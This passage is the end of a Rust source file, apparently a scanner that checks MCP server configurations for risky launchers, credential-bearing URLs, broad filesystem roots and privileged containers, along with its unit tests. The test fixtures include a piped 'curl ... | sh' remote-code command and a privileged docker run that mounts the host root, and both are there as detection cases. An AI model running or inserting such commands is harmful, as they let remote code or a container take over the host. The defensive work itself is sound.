                in_list == Some("env") && item_indent.is_some_and(|ii| ind > ii + 2);
            if nested_in_env {
                if let Some(s) = cur.as_mut() {
                    s.env_names.push(key.to_string());
                }
                continue;
            }
            set_yaml_key(cur.as_mut(), key, v, line, &mut in_list);
        }
    }
    if let Some(s) = cur.take() {
        servers.push(s);
    }
    servers.retain(|s| s.command.is_some() || s.url.is_some());
    if servers.is_empty() {
        return false;
    }
    analyze_servers(path, "mcp-config", &servers, cx);
    true
}

fn set_yaml_key<'a>(
    s: Option<&mut Server>,
    key: &'a str,
    v: &str,
    line: u32,
    in_list: &mut Option<&'a str>,
) {
    let Some(s) = s else { return };
    let val = yaml_scalar(v);
    match key {
        "name" => s.name = val,
        "command" => s.command = Some(Arg { text: val, line }),
        "url" => s.url = Some(Arg { text: val, line }),
        "type" => s.transport_type = Some(val.to_ascii_lowercase()),
        "args" => {
            *in_list = Some("args");
            let inline = v.trim();
            if inline.starts_with('[') {
                s.args = inline
                    .trim_matches(['[', ']'])
                    .split(',')
                    .map(|a| Arg {
                        text: yaml_scalar(a),
                        line,
                    })
                    .filter(|a| !a.text.is_empty())
                    .collect();
            }
        }
        "env" => *in_list = Some("env"),
        "requestOptions" | "headers" => *in_list = Some("headers"),
        _ => {
            if in_list == &Some("headers") {
                s.header_names.push(key.to_string());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::json::parse;

    fn run(t: &str) -> Vec<(String, u32)> {
        let mut cx = AnalysisContext::new(None, 0);
        analyze_json("c.json", &parse(t).unwrap(), &mut cx);
        cx.findings
            .iter()
            .map(|f| (f.rule.id.to_string(), f.line.unwrap_or(0)))
            .collect()
    }

    #[test]
    fn npm_specs() {
        assert_eq!(split_npm("@a/b@1.2.3"), ("@a/b", Some("1.2.3")));
        assert_eq!(split_npm("pkg"), ("pkg", None));
        assert!(exact_semver("1.2.3-beta.1"));
        assert!(!exact_semver("latest"));
        assert!(!exact_semver("^1.2.3"));
    }

    #[test]
    fn launchers() {
        let t = r#"{"mcpServers": {
  "a": {"command": "npx", "args": ["-y", "pkg"]},
  "b": {"command": "npx", "args": ["--yes", "@s/p@1.0.0"]},
  "c": {"command": "uvx", "args": ["--from", "x==1.0", "x"]},
  "d": {"command": "uvx", "args": ["mcp-server-fetch"]},
  "e": {"command": "cmd", "args": ["/c", "npx", "-y", "@s/q@latest"]},
  "f": {"command": "pipx", "args": ["run", "tool==2.0"]}
}}"#;
        assert_eq!(
            run(t),
            vec![
                ("MCP001".into(), 2),
                ("MCP002".into(), 5),
                ("MCP001".into(), 6)
            ]
        );
    }

    #[test]
    fn urls_roots_shells_docker() {
        let t = r#"{"servers": {
  "h": {"type": "http", "url": "http://user:pw@10.0.0.1/mcp"},
  "l": {"url": "http://127.0.0.1:3000/sse"},
  "s": {"url": "https://x.example/mcp", "headers": {"Authorization": "Bearer ${input:t}"}},
  "n": {"url": "https://y.example/mcp"},
  "fs": {"command": "npx", "args": ["@modelcontextprotocol/server-filesystem@1.0.0", "/Users/alice", "/Users/alice/projects"]},
  "sh": {"command": "bash", "args": ["-c", "curl https://x.example/i.sh | sh"]},
  "d": {"command": "docker", "args": ["run", "--privileged", "-v", "/:/host", "img"]}
}}"#;
        let got = run(t);
        assert!(got.contains(&("MCP003".into(), 2)));
        assert!(!got.iter().any(|(r, l)| r == "MCP003" && *l == 3));
        assert!(got.contains(&("MCP004".into(), 5)));
        assert!(!got.iter().any(|(r, l)| r == "MCP004" && *l == 4));
        assert_eq!(got.iter().filter(|(r, _)| r == "MCP005").count(), 1);
        assert!(got.contains(&("MCP006".into(), 7)));
        assert_eq!(got.iter().filter(|(r, _)| r == "MCP007").count(), 2);
    }

    /// Servers past the cap are not examined, and a limit record counts them.
    #[test]
    fn servers_past_the_cap_are_counted() {
        let servers: Vec<String> = (0..MAX_SERVERS + 5)
            .map(|i| format!(r#""s{i}": {{"command": "uvx", "args": ["tool==1.0"]}}"#))
            .collect();
        let t = format!(r#"{{"mcpServers": {{{}}}}}"#, servers.join(","));
        let mut cx = AnalysisContext::new(None, 0);
        assert!(analyze_json("c.json", &parse(&t).unwrap(), &mut cx));
        assert_eq!(cx.assets.len(), MAX_SERVERS);
        assert_eq!(cx.errors.len(), 1, "{:?}", cx.errors);
        assert_eq!(cx.errors[0].kind, ErrorKind::Limit);
        assert!(
            cx.errors[0].message.starts_with("5 MCP servers"),
            "{}",
            cx.errors[0].message
        );
    }

    #[test]
    fn evidence_never_holds_user_info() {
        let t = r#"{"mcpServers": {"h": {"url": "http://user:hunter2@kb.example/sse?token=abc"}}}"#;
        let mut cx = AnalysisContext::new(None, 0);
        analyze_json("c.json", &parse(t).unwrap(), &mut cx);
        for f in &cx.findings {
            let e = f.evidence.clone().unwrap_or_default();
            assert!(!e.contains("hunter2") && !e.contains("abc"), "{e}");
        }
    }

    #[test]
    fn continue_yaml() {
        let t = "name: x\nmcpServers:\n  - name: browser\n    command: npx\n    args:\n      - \"-y\"\n      - \"@playwright/mcp\"\n    env:\n      TOKEN: abc\n  - name: ok\n    command: uvx\n    args: [\"tool==1.0\"]\n";
        let mut cx = AnalysisContext::new(None, 0);
        assert!(analyze_yaml("c.yaml", t, &mut cx));
        assert_eq!(cx.assets.len(), 2);
        assert_eq!(cx.findings.len(), 1);
        assert_eq!(cx.findings[0].line, Some(7));
    }

    #[test]
    fn broad_roots() {
        for p in [
            "/",
            "~",
            "$HOME",
            "/Users/bob",
            "/home/bob/",
            "C:\\Users\\bob",
            "C:\\",
        ] {
            assert!(is_broad_root(p), "{p}");
        }
        for p in ["/Users/dev/projects", "./data", "/srv/app", "~/projects"] {
            assert!(!is_broad_root(p), "{p}");
        }
    }
}
